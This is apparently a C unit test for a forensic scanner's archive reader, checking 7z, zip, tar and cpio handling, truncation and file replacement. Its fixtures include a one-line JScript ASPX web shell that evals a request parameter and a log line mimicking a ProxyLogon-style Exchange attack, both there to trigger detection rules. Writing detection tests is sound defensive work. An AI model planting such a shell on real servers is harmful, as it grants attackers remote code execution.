/* Archives read from any source (issue 11): formats libarchive writes here
 * (7-Zip, zip, tar, cpio; compressed or not) scanned from memory and from a
 * source that can only be read in order; damaged and truncated archives
 * give an error on the archive, never a crash; an archive replaced after
 * the walk is refused. The zip-specific cases (names, encryption, hostile
 * zips) are in tests/e2e/collections.py. */
#include <archive.h>
#include <archive_entry.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>

#include "core/source.h"
#include "platform/platform.h"
#include "scan/scan.h"
#include "util/util.h"
#include "formats/archive/archive.h"

static exh_ruleset *rs;
static exh_scan_limits lim;
static exh_worker wk; /* one for the whole run, as a scan thread keeps its own */

#define LOG_NAME "C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/HttpProxy_2021030107-1.LOG"
#define LOG_TEXT                                                                                                  \
  "DateTime,ClientIpAddress,AnchorMailbox,UrlStem\r\n#Software: Microsoft Exchange Server\r\n"                  \
  "#Version: 15.01.2176.002\r\n#Fields: DateTime,ClientIpAddress,AnchorMailbox,UrlStem\r\n"                      \
  "2021-03-01T07:00:00.000Z,10.0.0.1,user@contoso.com,/owa/\r\n"                                                 \
  "2021-03-01T07:45:05.891Z,142.4.110.34,ServerInfo~localhost/ecp/default.flt?,/owa/auth/x.js\r\n"
#define SHELL_NAME "C/inetpub/wwwroot/aspnet_client/s.aspx"
#define SHELL_TEXT "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>"

static int setup(void **st) {
  (void)st;
  if (exh_ruleset_new(&rs) != EXH_OK || exh_ruleset_add_builtin(rs) != EXH_OK || exh_ruleset_compile(rs) != EXH_OK)
    return -1;
  exh__scan_limits_default(&lim);
  exh__worker_init(&wk, rs);
  wk.lim = &lim;
  return 0;
}

static int teardown(void **st) {
  (void)st;
  exh__worker_fini(&wk);
  exh_ruleset_free(rs);
  return 0;
}

/* An archive in memory, written by libarchive. */
static char *write_archive(int format, int filter, size_t *n) {
  size_t cap = 1 << 20;
  char *buf = malloc(cap);
  struct archive *a = archive_write_new();
  assert_int_equal(archive_write_set_format(a, format), ARCHIVE_OK);
  if (filter != ARCHIVE_FILTER_NONE) assert_int_equal(archive_write_add_filter(a, filter), ARCHIVE_OK);
  assert_int_equal(archive_write_open_memory(a, buf, cap, n), ARCHIVE_OK);
  const char *names[] = {LOG_NAME, SHELL_NAME}, *texts[] = {LOG_TEXT, SHELL_TEXT};
  for (int i = 0; i < 2; i++) {
    struct archive_entry *e = archive_entry_new();
    archive_entry_set_pathname(e, names[i]);
    archive_entry_set_size(e, (la_int64_t)strlen(texts[i]));
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_perm(e, 0644);
    archive_entry_set_mtime(e, 1614585600, 0);
    assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
    assert_int_equal(archive_write_data(a, texts[i], strlen(texts[i])), (la_ssize_t)strlen(texts[i]));
    archive_entry_free(e);
  }
  assert_int_equal(archive_write_close(a), ARCHIVE_OK);
  archive_write_free(a);
  return buf;
}

/* A source that gives at most `step` bytes a call and has no pread. */
typedef struct dribble {
  exh_source s;
  const char *p;
  size_t n, step;
} dribble;

static long dribble_read(exh_source *s, void *buf, size_t n) {
  dribble *d = (dribble *)s;
  size_t left = d->n - (size_t)s->pos;
  if (n > d->step) n = d->step;
  if (n > left) n = left;
  memcpy(buf, d->p + s->pos, n);
  s->pos += n;
  return (long)n;
}
static void dribble_close(exh_source *s) { (void)s; }

typedef struct result {
  size_t findings;
  int log, shell;
  char *error;
} result;

static result scan_bytes(const char *p, size_t n, int sequential) {
  exh_evidence ev;
  memset(&ev, 0, sizeof ev);
  ev.path = "a";
  ev.rel = "";
  ev.kind = EXH_KIND_ARCHIVE;
  dribble d = {{dribble_read, NULL, dribble_close, n, 0, ""}, p, n, 777};
  exh_source *src = sequential ? &d.s : exh__source_mem(p, n);
  exh__scan_archive_source(&wk, &ev, src);
  if (!sequential) exh__source_close(src);
  result r = {ev.nfindings, 0, 0, ev.error};
  for (size_t i = 0; i < ev.nfindings; i++) {
    if (!strcmp(ev.findings[i].path, "a!" LOG_NAME) && ev.findings[i].line == 6) r.log++;
    if (!strcmp(ev.findings[i].path, "a!" SHELL_NAME)) r.shell++;
  }
  ev.error = NULL; /* handed to the caller */
  exh__evidence_release(&ev);
  return r;
}

static void test_formats(void **st) {
  (void)st;
  static const struct {
    int format, filter, sequential_ok;
    const char *what;
  } cases[] = {
      {ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE, 0, "7z"},
      {ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, 1, "zip"},
      {ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_NONE, 1, "tar"},
      {ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_GZIP, 1, "tar.gz"},
      {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_XZ, 1, "tar.xz"},
      {ARCHIVE_FORMAT_CPIO_POSIX, ARCHIVE_FILTER_BZIP2, 1, "cpio.bz2"},
  };
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    size_t n;
    char *buf = write_archive(cases[i].format, cases[i].filter, &n);
    for (int seq = 0; seq < 2; seq++) {
      result r = scan_bytes(buf, n, seq);
      printf("%s%s: %zu findings, error %s\n", cases[i].what, seq ? " (in order)" : "", r.findings,
             r.error ? r.error : "-");
      if (!seq || cases[i].sequential_ok) {
        assert_int_equal(r.log, 1);
        assert_true(r.shell >= 1);
        assert_null(r.error);
      } else {
        /* 7-Zip keeps its index at the end: read in order it cannot be
         * opened, and says so */
        assert_non_null(r.error);
      }
      free(r.error);
    }
    /* truncated anywhere: an error or fewer members, never a crash */
    for (size_t cut = 0; cut < n; cut += 1 + n / 97) {
      result r = scan_bytes(buf, cut, 0);
      assert_true(r.error != NULL || r.findings <= 3);
      free(r.error);
    }
    free(buf);
  }
  /* not an archive */
  result r = scan_bytes("hello, world\n", 13, 0);
  assert_non_null(r.error);
  assert_non_null(strstr(r.error, "cannot open the archive"));
  free(r.error);
}

/* The archive file is opened like every evidence file: one replaced after
 * the walk (another inode) is refused. */
static void test_replaced(void **st) {
  (void)st;
  char dir[] = "/tmp/exh_test_archive_XXXXXX";
  assert_non_null(mkdtemp(dir));
  char path[256], other[256];
  snprintf(path, sizeof path, "%s/c.zip", dir);
  snprintf(other, sizeof other, "%s/d.zip", dir);
  size_t n;
  char *buf = write_archive(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, &n);
  for (int i = 0; i < 2; i++) {
    FILE *f = fopen(i ? other : path, "wb");
    assert_non_null(f);
    assert_int_equal(fwrite(buf, 1, n, f), n);
    fclose(f);
  }
  free(buf);
  exh_stat s;
  char why[256];
  assert_int_equal(exh__lstat(path, &s, why, sizeof why), 0);
  assert_int_equal(rename(other, path), 0);
  exh_evidence ev;
  memset(&ev, 0, sizeof ev);
  ev.path = path;
  ev.rel = "";
  ev.kind = EXH_KIND_ARCHIVE;
  ev.size = s.size;
  ev.dev = s.dev;
  ev.ino = s.ino;
  exh__scan_archive(&wk, &ev);
  assert_non_null(ev.error);
  assert_non_null(strstr(ev.error, "replaced"));
  assert_int_equal(ev.nfindings, 0);
  exh__evidence_release(&ev);
  unlink(path);
  rmdir(dir);
}

int main(void) {
  const struct CMUnitTest tests[] = {cmocka_unit_test(test_formats), cmocka_unit_test(test_replaced)};
  return cmocka_run_group_tests(tests, setup, teardown);
}
